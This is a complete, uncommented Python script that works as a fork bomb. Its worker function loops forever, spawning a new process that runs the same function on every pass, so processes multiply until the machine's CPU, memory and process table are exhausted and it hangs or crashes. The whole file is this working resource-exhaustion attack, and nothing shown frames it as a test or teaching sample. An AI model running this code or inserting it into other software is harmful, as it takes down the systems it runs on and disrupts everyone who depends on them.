import multiprocessing

def worker():
    while True:
        multiprocessing.Process(target=worker).start()

if __name__ == "__main__":
    worker()
